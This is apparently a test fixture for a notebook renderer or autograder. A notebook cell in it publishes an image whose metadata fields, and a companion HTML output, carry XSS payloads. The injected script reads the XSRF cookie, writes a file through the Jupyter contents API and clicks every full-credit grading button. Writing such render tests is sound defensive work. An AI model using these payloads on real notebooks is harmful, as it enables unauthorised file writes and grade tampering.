"""Correct answers, plus a cell that shows a picture whose output metadata (width, height,
alt, unconfined, filenames, isolated) carries unquoted-attribute payloads: script that
would retitle the page, press every full-credit button and write a file through the API."""
# attack: render
# expect: full-marks
# %% new-cell
from IPython.display import publish_display_data

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
JS = (
    "document.title='owned';window.__owned=1;"
    "k=document.cookie.match(/_xsrf=([^;]*)/);"
    "fetch('/api/contents/owned.txt',{method:'PUT',headers:{'X-XSRFToken':k?k[1]:'',"
    "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',"
    "content:'owned'})});"
    "document.querySelectorAll('.full-credit').forEach(function(b){try{b.click()}catch(e){}})"
)
publish_display_data(
    {"image/png": PNG, "image/jpeg": PNG, "text/plain": "a picture"},
    metadata={
        "image/png": {
            "width": "1 onerror=" + JS,
            "height": "1 onload=" + JS,
            "alt": '" onerror="' + JS,
            "unconfined": "x onmouseover=" + JS,
        },
        "image/jpeg": {"width": ["1 onerror=" + JS], "height": {"a": 1}},
        "width": "2 onerror=" + JS,
        "height": "2\tonerror=" + JS,
        "filenames": {"image/png": 'x.png" onerror="' + JS},
        "text/html": {"isolated": True},
    },
)
publish_display_data(
    {"text/html": "<b>isolated</b><script>" + JS + "</script>", "text/plain": "html"},
    metadata={"text/html": {"isolated": True}, "isolated": True},
)
